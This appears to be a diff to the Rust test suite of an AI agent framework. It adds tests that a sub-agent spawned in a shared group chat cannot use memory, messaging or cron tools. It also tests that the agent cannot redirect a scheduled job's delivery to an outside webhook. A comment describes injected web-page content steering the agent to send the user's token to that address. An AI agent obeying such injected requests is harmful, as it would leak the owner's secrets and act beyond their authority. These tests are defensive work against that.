@@ -423,6 +423,29 @@ async fn what_a_sub_agent_found_is_answered_in_the_chat_it_was_asked_in() {
     assert!(offered(&asked).contains(&"cron"));
 }
 
+/// What others said there may have led to it.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_sub_agent_begun_where_others_read_along_reaches_no_more_than_they_do() {
+    let app = TestApp::start().await;
+    let mut operator = app.operator().await;
+    let room = "agent:main:telegram:group:-500";
+    let inner = format!("#inner {}", calls_tool("memory_read", &json!({"path": "MEMORY.md"})));
+    ask(&mut operator, room, "r1", "sessions_spawn", &json!({"task": inner})).await;
+    becomes("told", 1, || announcements(&app)).await;
+    app.settled().await;
+    let asked = app.model.asked("#inner").await;
+    for tool in ["cron", "memory_read", "write", "message", "sessions_spawn"] {
+        assert!(!offered(&asked).contains(&tool), "{tool} is offered");
+    }
+    let heard = tool_result(&app, "inner").expect("it was tried");
+    assert!(heard.contains("There is no tool named memory_read"), "{heard}");
+    // Nor does it schedule what runs with the owner's rights later.
+    let job = json!({"action": "add", "text": "in a minute", "at": "1m"});
+    ask(&mut operator, room, "r2", "cron", &job).await;
+    let heard = told(&app, &mut operator, "r2").await;
+    assert!(heard.contains("There is no tool named cron"), "{heard}");
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn the_agent_keeps_its_users_jobs() {
     let app = TestApp::start().await;
@@ -467,6 +490,16 @@ async fn the_agent_keeps_its_users_jobs() {
             .await
             .contains("succeeded")
     );
+    // A page it read could have asked for that: the address would get the user's token.
+    let delivery = json!({"mode": "webhook", "to": "https://example.com/x"});
+    for (run, leak) in [
+        ("w1", json!({"action": "update", "jobId": id, "patch": {"delivery": delivery}})),
+        ("w2", json!({"action": "add", "job": {"schedule": {"kind": "every", "everyMs": 3_600_000},
+            "payload": {"kind": "agentTurn", "message": "x"}, "delivery": delivery}})),
+    ] {
+        let heard = act(&mut operator, run, leak).await;
+        assert!(heard.contains("Only the user"), "{heard}");
+    }
     let bad = json!({"action": "add", "job": {"name": "x"}});
     assert!(
         act(&mut operator, "j5", bad).await.contains("schedule"),
